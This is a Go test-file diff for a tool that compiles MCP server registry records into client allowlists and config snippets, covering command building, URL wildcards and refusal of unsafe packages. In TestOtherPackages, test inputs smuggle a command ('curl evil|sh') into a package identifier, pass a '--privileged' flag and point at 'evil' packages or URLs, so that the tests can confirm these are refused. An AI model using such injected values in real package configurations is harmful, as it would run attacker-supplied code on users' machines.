@@ -56,7 +56,7 @@ func TestCommands(t *testing.T) {
 		`"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"named","name":"-p","value":"{port}"}]`:                                                     "",
 		`"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"named","name":"-p","value":"{x}","variables":{"x":{"value":"8"}}}]`:                        "npx -y a@1 -p 8",
 		`"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"positional","isRequired":true}]`:                                                           "",
-		`"registryType":"npm","identifier":"a","version":"1","runtimeHint":"sh"`:                                                                                                     "",
+		`"registryType":"npm","identifier":"a","version":"1","runtimeHint":"sh"`:                                                                                                     "npx -y a@1",
 		`"registryType":"npm","version":"1"`:                                                                                                                                         "",
 		`"registryType":"pypi","identifier":"a","version":"1.0.0"`:                                                                                                                   "uvx a==1.0.0",
 		`"registryType":"pypi","identifier":"a","version":"1.0.0","runtimeHint":"pipx"`:                                                                                              "pipx run a==1.0.0",
@@ -82,6 +82,93 @@ func TestCommands(t *testing.T) {
 	}
 }
 
+// TestContainerVariables checks that a container gets each environment variable from the client, once
+// (contract C-5).
+func TestContainerVariables(t *testing.T) {
+	t.Parallel()
+	environment := `,"environmentVariables":[{"name":"KEY","isRequired":true},{"name":"LOG"},{"name":"KEY"}]`
+	for arguments, want := range map[string]string{
+		``: "docker run -i --rm -e KEY -e LOG a/b:1",
+		`{"type":"named","name":"-e","value":"KEY"}`:                                                "docker run -i --rm -e KEY -e LOG a/b:1",
+		`{"type":"named","name":"--env","value":"KEY=x"},{"type":"positional","value":"--env=LOG"}`: "docker run -i --rm --env KEY=x --env=LOG a/b:1",
+		`{"type":"positional","value":"-eLOG"}`:                                                     "docker run -i --rm -eLOG -e KEY a/b:1",
+		`{"type":"named","name":"-e"},{"type":"positional","value":"KEY"}`:                          "docker run -i --rm -e KEY -e LOG a/b:1",
+		`{"type":"named","name":"-v","value":"/a:/b"},{"type":"positional","value":"a/b"}`:          "docker run -i --rm -v /a:/b -e KEY -e LOG a/b:1",
+		`{"type":"positional","value":"run"},{"type":"named","name":"-i","value":"true","format":"boolean"},` +
+			`{"type":"named","name":"--tty","value":"false","format":"boolean"},{"type":"positional","value":"a/b:1"}`: "docker run --rm -i -e KEY -e LOG a/b:1",
+	} {
+		r := newRecord(t, "com.example/a", "1.0.0", packages(`{"registryType":"oci","identifier":"a/b:1","runtimeArguments":[`+arguments+`]`+environment+`}`))
+		if got := compile(t, allowlist.Claude, []registry.Record{r}, nil).Allowed; len(got) != 1 || strings.Join(got[0].Command, " ") != want {
+			t.Errorf("%s: got %+v, want %s", arguments, got, want)
+		}
+	}
+}
+
+// TestEmptyArguments checks named arguments without a value: a client would ask for it, so that a
+// command has those only that must be there, or that have no value by their nature (contract C-5).
+func TestEmptyArguments(t *testing.T) {
+	t.Parallel()
+	for argument, want := range map[string]string{
+		`"description":"A user"`:                     "npx -y a@1",
+		`"description":"A user","default":"bob"`:     "npx -y a@1 --x bob",
+		`"description":"Fast","format":"boolean"`:    "npx -y a@1 --x",
+		`"format":"boolean","isRequired":true`:       "npx -y a@1 --x",
+		`"format":"string"`:                          "npx -y a@1 --x",
+		`"description":"A user","isRequired":true`:   "",
+		`"description":"A user","value":"{missing}"`: "",
+	} {
+		r := newRecord(t, "com.example/a", "1.0.0", packages(`{"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"named","name":"--x",`+argument+`}]}`))
+		got := compile(t, allowlist.Claude, []registry.Record{r}, nil).Allowed
+		if len(got) != 1 || strings.Join(got[0].Command, " ") != want {
+			t.Errorf("%s: got %+v, want %q", argument, got, want)
+		}
+	}
+}
+
+// TestOtherPackages has documents whose command would start something else than the package that
+// was checked, or would be an option. None of them is listed, nor is its name (contract C-5).
+func TestOtherPackages(t *testing.T) {
+	t.Parallel()
+	refused := []string{
+		`"registryType":"npm","identifier":"--call=curl evil|sh","version":"1.0.0"`,
+		`"registryType":"npm","identifier":"a","version":"-1"`,
+		`"registryType":"oci","identifier":"--privileged","version":"1.0.0"`,
+		`"registryType":"pypi","identifier":"--from","version":"1"`,
+	}
+	for _, argument := range []string{
+		`{"type":"positional","value":"evil@1.0.0"}`, `{"type":"positional","value":"evil"}`, `{"type":"positional","default":"a@latest"}`,
+		`{"type":"named","name":"-q","value":"evil"}`, `{"type":"named","name":"evil"}`, `{"type":"named","name":"-y"},{"type":"positional","value":"@evil/x"}`,
+		`{"type":"positional","value":"https://evil.example/x.tgz"}`,
+	} {
+		for _, kind := range []string{`"npm"`, `"npm","runtimeHint":"bunx"`, `"pypi"`, `"pypi","runtimeHint":"pipx"`} {
+			refused = append(refused, `"registryType":`+kind+`,"identifier":"a","version":"1","runtimeArguments":[`+argument+`]`)
+		}
+	}
+	for _, text := range refused {
+		r := newRecord(t, "com.example/a", "1.0.0", packages(`{`+text+`,"transport":{"type":"stdio"}}`))
+		for _, f := range allowlist.Formats() {
+			if list := compile(t, f, []registry.Record{r}, nil); len(list.Allowed)+len(list.Definitions) != 0 || len(list.Skipped) != 1 {
+				t.Errorf("%s: %s: %+v", f, text, list)
+			}
+		}
+		if _, err := allowlist.NewSnippet(r, allowlist.ClientCursor); !fault.Is(err, fault.NotFound) {
+			t.Errorf("%s: the snippet is %v", text, err)
+		}
+	}
+	for text, want := range map[string]string{
+		`"registryType":"npm","identifier":"a","version":"1","runtimeArguments":[{"type":"positional","value":"a"}]`:                            "npx -y a@1",
+		`"registryType":"npm","identifier":"a","version":"1","runtimeArguments":[{"type":"named","name":"--registry","value":"https://r"}]`:     "npx -y --registry https://r a@1",
+		`"registryType":"pypi","identifier":"a","version":"1","runtimeArguments":[{"type":"positional","value":"--python=3.13"}]`:               "uvx --python=3.13 a==1",
+		`"registryType":"pypi","identifier":"a","version":"1","runtimeHint":"pipx","runtimeArguments":[{"type":"positional","value":"run"}]`:    "pipx run a==1",
+		`"registryType":"oci","identifier":"a:1","runtimeArguments":[{"type":"named","name":"--network"},{"type":"positional","value":"host"}]`: "docker run -i --rm --network host a:1",
+	} {
+		list := compile(t, allowlist.Claude, []registry.Record{newRecord(t, "com.example/a", "1.0.0", packages("{"+text+"}"))}, nil)
+		if len(list.Allowed) != 1 || strings.Join(list.Allowed[0].Command, " ") != want {
+			t.Errorf("%s: %+v, want %s", text, list, want)
+		}
+	}
+}
+
 // TestURLs checks the pattern of the URL of a remote, and that none matches foreign hosts.
 func TestURLs(t *testing.T) {
 	t.Parallel()
@@ -90,6 +177,17 @@ func TestURLs(t *testing.T) {
 		"https://example.com/{a}/mcp?b={c}":      "https://example.com/*/mcp?b=*",
 		"https://{a}.example.com/mcp":            "https://*.example.com/mcp",
 		"https://api-{a}.{b}.example.com:8443/x": "https://api-*.*.example.com:8443/x",
+		"https://{a}.team.corp/mcp":              "https://*.team.corp/mcp",
+		"https://{a}.example.co.uk/mcp":          "https://*.example.co.uk/mcp",
+		"https://{a}.team.github.io/mcp":         "https://*.team.github.io/mcp",
+		"https://{a}.co.uk/mcp":                  "",
+		"https://{a}.GitHub.io/mcp":              "",
+		"https://{a}.workers.dev/":               "",
+		"https://{a}.s3.amazonaws.com/":          "",
+		"https://{a}.corp/mcp":                   "",
+		"https://{a}.example.com./mcp":           "",
+		"https://{a}.0.0.1/mcp":                  "",
+		"https://{a}.0.0x1/mcp":                  "",
 		"https://{host}/mcp":                     "",
 		"https://{a}.com/mcp":                    "",
 		"https://api.{domain}/mcp":               "",
@@ -104,12 +202,11 @@ func TestURLs(t *testing.T) {
 		"{scheme}://example.com/mcp":             "",
 		"https://*.example.com/mcp":              "",
 		"https://example.com/*":                  "",
-		"":                                       "",
 	} {
 		list := compile(t, allowlist.VSCode, []registry.Record{newRecord(t, "com.example/a.b", "1.0.0", remotes(`{"type":"sse","url":"`+address+`"}`))}, nil)
 		got := list.Allowed
-		if want == "" {
-			if len(got) != 0 || len(list.Skipped) != 2 { // the URL and the name
+		if want == "" { // and no entry by its name, which would allow any URL
+			if len(got) != 0 || len(list.Skipped) != 1 {
 				t.Errorf("%s: got %+v and %+v", address, got, list.Skipped)
 			}
 			continue
@@ -128,6 +225,41 @@ func TestDocumentsAreReadAsClientsReadThem(t *testing.T) {
 	list := compile(t, allowlist.Claude, []registry.Record{r}, nil)
 	if len(list.Allowed) != 1 || list.Allowed[0].Name != "a" {
 		t.Errorf("the list is %+v", list)
+	}
+}
+
+// TestNamesInVSCode checks that servers without another entry have the name by which VS Code stores
+// them, and that of the snippet (contract C-3).
+func TestNamesInVSCode(t *testing.T) {
+	t.Parallel()
+	list := compile(t, allowlist.VSCode, []registry.Record{newRecord(t, "com.example/a", "1.0.0", ""), newRecord(t, "com.example/b.c", "1.0.0", remotes(`{"type":"sse"}`))}, nil)
+	var names []string
+	for _, e := range list.Allowed {
+		names = append(names, e.Name)
+	}
+	if !slices.Equal(names, []string{"a", "com.example/a", "com.example/b.c"}) || len(list.Skipped) != 0 {
+		t.Errorf("the names are %q, skipped %+v", names, list.Skipped)
+	}
+}
+
+// TestSharedURLs has two servers with one URL: it is denied when neither is listed any more (contract
+// C-2).
+func TestSharedURLs(t *testing.T) {
+	t.Parallel()
+	const shared = `{"type":"sse","url":"https://example.com/mcp"}`
+	a, b := newRecord(t, "com.example/a", "1.0.0", remotes(shared)), newRecord(t, "org.example/b", "1.0.0", remotes(shared))
+	for _, f := range []allowlist.Format{allowlist.Claude, allowlist.VSCode} {
+		if list := compile(t, f, []registry.Record{a}, []registry.Record{b}); len(list.Allowed) != 1 || len(list.Denied) != 0 {
+			t.Errorf("%s: while one server has the URL: %+v", f, list)
+		}
+		if list := compile(t, f, nil, []registry.Record{a, b}); len(list.Allowed) != 0 || len(list.Denied) != 1 {
+			t.Errorf("%s: after both were deleted: %+v", f, list)
+		}
+	}
+	for _, f := range []allowlist.Format{allowlist.Gemini, allowlist.Kiro} {
+		if list := compile(t, f, []registry.Record{a, b}, nil); len(list.Definitions) != 2 || len(list.Skipped) != 0 {
+			t.Errorf("%s: %+v", f, list)
+		}
 	}
 }
 
@@ -248,10 +380,10 @@ func TestSnippetsThatCannotBe(t *testing.T) {
 	t.Parallel()
 	for properties, text := range map[string]string{
 		"": "neither packages nor remotes",
-		packages(`{"registryType":"mcpb","identifier":"https://example.com/a.mcpb"}`):                            `type "mcpb"`,
-		packages(`{"registryType":"npm","identifier":"a","runtimeHint":"sh"}`):                                   `runtimeHint "sh"`,
-		packages(`{"registryType":"npm","identifier":"a","transport":{"type":"sse","url":"http://localhost/"}}`): "does not use stdio",
-		remotes(`{"type":"websocket","url":"https://example.com/"}`):                                             "neither packages nor remotes",
+		packages(`{"registryType":"mcpb","identifier":"https://example.com/a.mcpb"}`): `type "mcpb"`,
+		packages(`{"registryType":"mcpb","identifier":"https://example.com/a.mcpb"},{"registryType":"npm","identifier":"a","transport":{"type":"sse"}},{"registryType":"npm","identifier":"b","transport":{"type":"sse"}}`): `type "mcpb"; a package does not use stdio, and clients start only packages that do`,
+		packages(`{"registryType":"npm","identifier":"a","transport":{"type":"sse","url":"http://localhost/"}}`):                                                                                                            "does not use stdio",
+		remotes(`{"type":"websocket","url":"https://example.com/"}`):                                                                                                                                                        "neither packages nor remotes",
 	} {
 		_, err := allowlist.NewSnippet(newRecord(t, "com.example/a", "1.0.0", properties), allowlist.ClientClaude)
 		if !fault.Is(err, fault.NotFound) || !strings.Contains(err.Error(), text) {
